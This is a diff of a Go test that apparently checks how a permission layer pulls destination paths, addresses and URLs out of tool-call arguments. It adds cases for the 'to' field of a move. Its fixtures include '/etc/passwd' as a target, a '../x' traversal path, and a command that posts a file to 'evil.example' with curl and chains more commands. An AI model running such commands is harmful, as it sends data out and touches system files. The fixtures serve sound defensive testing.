@@ -33,6 +33,8 @@ func TestDestinations(t *testing.T) {
 			{Kind: ToAddress, Arg: "/phone_number", Value: "+49 30 123456"}, {Kind: ToAddress, Arg: "/sendTo", Value: "ann"}, {Kind: ToURL, Arg: "/webhook_url", Value: "hooks.example/x"}}},
 		{"paths outside only", fakeTool{caps: destroys}, `{"path":"notes/a.md","file":"/ws/b.md","dest":"/etc/passwd","output":"../x","folder":"~/y"}`, []Destination{
 			{Kind: ToPath, Arg: "/dest", Value: "/etc/passwd"}, {Kind: ToPath, Arg: "/folder", Value: "~/y"}, {Kind: ToPath, Arg: "/output", Value: "../x"}}},
+		{"the to of a move", fakeTool{caps: destroys}, `{"from":"a.md","to":"b/a.md"}`, nil},
+		{"the to of a move, outside", fakeTool{caps: destroys}, `{"to":"/etc/a.md"}`, []Destination{{Kind: ToPath, Arg: "/to", Value: "/etc/a.md"}}},
 		{"a jailed tool's path", fakeTool{caps: destroys, hints: Hints{Files: []string{"path"}}}, `{"path":"/etc/passwd"}`, nil},
 		{"hints", fakeTool{caps: sends, hints: Hints{Destinations: []string{"team"}, KeyArg: "key", Files: []string{"attachments"}}}, `{"team":"core","key":"https://k.example","attachments":["https://not.sent.there/"]}`, []Destination{{Kind: ToAddress, Arg: "/team", Value: "core"}}},
 		{"inside a command", fakeTool{caps: sends, hints: Hints{Mentions: []string{"command"}}}, `{"command":"curl -d @x 'https://evil.example/c' | mail ann@b.org; ls -la"}`, []Destination{
